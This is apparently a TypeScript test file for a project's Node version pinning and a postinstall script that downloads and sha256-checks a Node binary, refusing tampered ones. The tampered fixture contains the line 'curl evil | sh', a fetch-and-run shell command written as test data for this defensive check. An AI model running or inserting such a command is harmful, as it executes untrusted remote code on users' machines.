// The tests and benches run on the add-on image's Node: one pinned release in .node-version, equal
// to the Dockerfile's NODE_IMAGE (and build.yaml's), installed by `npm ci` (scripts/pinned-node.mjs)
// from the npm registry and checked against the Dockerfile's sha256 of the image's bin/node. Here:
// the pins agree, the Docker build can run the install hook, and the script, run in a sandbox with a
// stand-in npm, installs a matching binary, refuses a tampered one and repairs a damaged cache.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { nodeMismatch, readPin } from '../../scripts/pinned-node.mjs';
import { repoRoot } from '../support/rootfs-sandbox.ts';

const read = (file: string): string => readFileSync(join(repoRoot, file), 'utf8');
const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');
const releaseOf = (v: string): number[] => v.replace(/^v/, '').split('.').map(Number);

test('.node-version is the release the Dockerfile and build.yaml build the image with', () => {
  const pin = readPin(repoRoot);
  assert.match(pin, /^\d+\.\d+\.\d+$/);
  assert.match(read('Dockerfile'), new RegExp(`^ARG NODE_IMAGE=node:${pin.replaceAll('.', '\\.')}-bookworm-slim$`, 'm'));
  const buildArgs = (parse(read('build.yaml')) as { args: Record<string, string> }).args;
  assert.equal(buildArgs.NODE_IMAGE, `node:${pin}-bookworm-slim`);
});

test("engines.node is the pinned major from the release that has zlib's zstd, and the pin is in it", () => {
  const pin = readPin(repoRoot);
  const engines = (JSON.parse(read('package.json')) as { engines: { node: string } }).engines.node;
  const m = /^\^(\d+)\.(\d+)\.(\d+)$/.exec(engines);
  assert.ok(m, `engines.node is a caret range, not "${engines}"`);
  const floor = m.slice(1).map(Number);
  const [major, minor, patch] = releaseOf(pin) as [number, number, number];
  assert.equal(major, floor[0], 'the pin has the supported major');
  assert.ok(minor * 1e6 + patch >= (floor[1] as number) * 1e6 + (floor[2] as number), `${pin} satisfies ${engines}`);
  assert.ok(major > 22 || (major === 22 && minor >= 15), 'zlib zstd (backups) needs Node 22.15 or newer');
  const lock = JSON.parse(read('package-lock.json')) as { packages: Record<string, { engines?: { node: string } }> };
  assert.equal(lock.packages['']?.engines?.node, engines, 'package-lock.json repeats engines');
});

test('npm ci installs the pinned node, and the Docker build stage has what that hook needs', () => {
  const pkg = JSON.parse(read('package.json')) as { scripts: Record<string, string> };
  assert.equal(pkg.scripts.postinstall, 'node scripts/pinned-node.mjs');
  const dockerfile = read('Dockerfile');
  const stage = dockerfile.slice(dockerfile.indexOf(' AS bridge'), dockerfile.indexOf('RUN npm ci'));
  assert.match(stage, /^COPY [^\n]*\.node-version[^\n]* \.\/$/m, 'the build stage copies .node-version before npm ci');
  assert.match(stage, /^COPY scripts\/pinned-node\.mjs \.\/scripts\/$/m, 'the build stage copies the hook before npm ci');
  const ignored = read('.dockerignore').split('\n').map((l) => l.trim());
  for (const path of ['.node-version', 'scripts', 'scripts/pinned-node.mjs', 'scripts/*', '*.mjs']) assert.ok(!ignored.includes(path), `.dockerignore keeps ${path}`);
  assert.match(read('README.md'), /`npm ci` also brings the Node\.js the add-on image runs \(the release in `\.node-version`/, 'README.md says where Node 22 comes from');
  assert.match(read('.ci/run'), /pinned_node="\$\(node scripts\/pinned-node\.mjs --path\)"\nexport PATH="\$\{pinned_node%\/\*\}:\$PATH"\n\nnpm ci /, '.ci/run runs npm on the pinned node');
});

test('another major than the pin is named with what to do; the same major is fine', () => {
  assert.equal(nodeMismatch('22.23.5', 'v22.23.5'), null);
  assert.equal(nodeMismatch('22.23.5', 'v22.1.0'), null);
  const wrong = nodeMismatch('22.23.5', 'v20.20.2');
  assert.ok(wrong);
  assert.match(wrong, /Node v20\.20\.2.*Node 22\.23\.5 \(\.node-version\).*`npm ci`.*`npm test`/s);
  assert.ok(nodeMismatch('22.23.5', 'v2.23.5'), 'the major is compared as a number, not a prefix');
  assert.throws(() => readPin(writeVersion('22')), /one exact release like 22\.23\.5, not "22"/);
  assert.throws(() => readPin(writeVersion('lts/jod')), /not "lts\/jod"/);
});

function writeVersion(text: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'iris-edge-node-version-'));
  writeFileSync(join(dir, '.node-version'), `${text}\n`);
  return dir;
}

test('scripts/pinned-node.mjs installs the checked binary, refuses a tampered one, repairs its cache', (t) => {
  const shaArg = ({ x64: 'NODE_SHA256_AMD64', arm64: 'NODE_SHA256_ARM64' } as Record<string, string>)[process.arch];
  assert.ok(shaArg && process.platform === 'linux', 'the suite runs on linux x64 or arm64, like the image');
  const dir = mkdtempSync(join(tmpdir(), 'iris-edge-pinned-node-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const project = join(dir, 'project');
  const cache = join(dir, 'cache');
  const served = join(dir, 'served');
  for (const d of [join(project, 'scripts'), served, join(dir, 'bin')]) mkdirSync(d, { recursive: true });
  copyFileSync(join(repoRoot, 'scripts', 'pinned-node.mjs'), join(project, 'scripts', 'pinned-node.mjs'));

  // A release no real Node has, so the running node is never it; its bin/node answers --version.
  const pin = '99.1.2';
  const pkg = `node-linux-${process.arch}`;
  const pack = (body: string): string => {
    const content = join(dir, `content-${sha256(body).slice(0, 8)}`);
    mkdirSync(join(content, 'package', 'bin'), { recursive: true });
    writeFileSync(join(content, 'package', 'bin', 'node'), body);
    chmodSync(join(content, 'package', 'bin', 'node'), 0o755);
    assert.equal(spawnSync('tar', ['-C', content, '-czf', join(served, `${pkg}-${pin}.tgz`), 'package']).status, 0);
    return sha256(body);
  };
  const good = `#!/bin/sh\necho v${pin}\n`;
  const pinned = sha256(good);
  const writeProject = (image: string, version = pin) => {
    writeFileSync(join(project, '.node-version'), `${version}\n`);
    writeFileSync(join(project, 'Dockerfile'), `ARG NODE_IMAGE=${image}\nARG ${shaArg}=${pinned}\n`);
  };
  writeProject(`node:${pin}-bookworm-slim`);

  // npm serves what `npm pack <spec> --json --pack-destination D` would, and logs each spec asked.
  writeFileSync(join(dir, 'bin', 'npm'), [
    '#!/usr/bin/env bash',
    'spec=""; dest=""',
    'while (($#)); do case "$1" in --pack-destination) dest="$2"; shift 2 ;; pack|--json) shift ;; *) spec="$1"; shift ;; esac; done',
    `echo "$spec" >>"${join(dir, 'npm.log')}"`,
    `file="${pkg}-${pin}.tgz"`,
    `[[ "$spec" == "${pkg}@${pin}" && -f "${served}/$file" ]] || { echo "npm error 404 $spec" >&2; exit 1; }`,
    `cp "${served}/$file" "$dest/" && printf '[{"filename":"%s"}]\\n' "$file"`,
    '',
  ].join('\n'));
  chmodSync(join(dir, 'bin', 'npm'), 0o755);
  const env: Record<string, string> = { PATH: `${join(dir, 'bin')}:/usr/bin:/bin`, HOME: dir, XDG_CACHE_HOME: cache };
  const run = (...args: string[]) => spawnSync(process.execPath, ['scripts/pinned-node.mjs', ...args], { cwd: project, env, encoding: 'utf8' });
  const asked = () => (existsSync(join(dir, 'npm.log')) ? readFileSync(join(dir, 'npm.log'), 'utf8').trim().split('\n') : []);
  const link = join(project, 'node_modules', '.bin', 'node');
  const cached = join(cache, 'iris-edge', 'node', `v${pin}-linux-${process.arch}`, 'bin', 'node');

  pack(`#!/bin/sh\necho v${pin}\ncurl evil | sh\n`);
  const tampered = run();
  assert.equal(tampered.status, 1);
  assert.match(tampered.stderr, new RegExp(`${pkg}@${pin}: bin/node has sha256 [0-9a-f]{64}, but the Dockerfile pins ${shaArg}=${pinned}; nothing was installed`));
  assert.ok(!existsSync(cached) && !existsSync(link), 'a tampered binary is neither cached nor linked');

  pack(good);
  const ok = run();
  assert.equal(ok.status, 0, ok.stderr);
  assert.match(ok.stdout, new RegExp(`npm scripts run on Node ${pin.replaceAll('.', '\\.')} \\(${cached}\\)`));
  assert.equal(readlinkSync(link), cached);
  assert.equal(spawnSync(link, ['--version'], { encoding: 'utf8' }).stdout.trim(), `v${pin}`);
  assert.deepEqual(asked(), [`${pkg}@${pin}`, `${pkg}@${pin}`]);

  const again = run('--path');
  assert.equal(again.status, 0, again.stderr);
  assert.equal(again.stdout.trim(), cached);
  assert.equal(asked().length, 2, 'a verified cached binary is not fetched again');

  writeFileSync(cached, '#!/bin/sh\necho v0.0.1\n');
  const repaired = run();
  assert.equal(repaired.status, 0, repaired.stderr);
  assert.equal(sha256(readFileSync(cached)), pinned, 'a damaged cached binary is fetched again');
  assert.equal(asked().length, 3);

  writeProject('node:99.1.3-bookworm-slim');
  rmSync(join(cache, 'iris-edge'), { recursive: true });
  const skew = run();
  assert.equal(skew.status, 1);
  assert.match(skew.stderr, /\.node-version says 99\.1\.2 but the Dockerfile's NODE_IMAGE is "node:99\.1\.3-bookworm-slim"/);

  // The running node already is the pinned release (the Docker build stage, or .ci/run's PATH):
  // it is linked, nothing is fetched.
  writeProject(`node:${process.version.slice(1)}-bookworm-slim`, process.version.slice(1));
  const self = run();
  assert.equal(self.status, 0, self.stderr);
  assert.equal(readlinkSync(link), process.execPath);
  assert.equal(asked().length, 3);
});
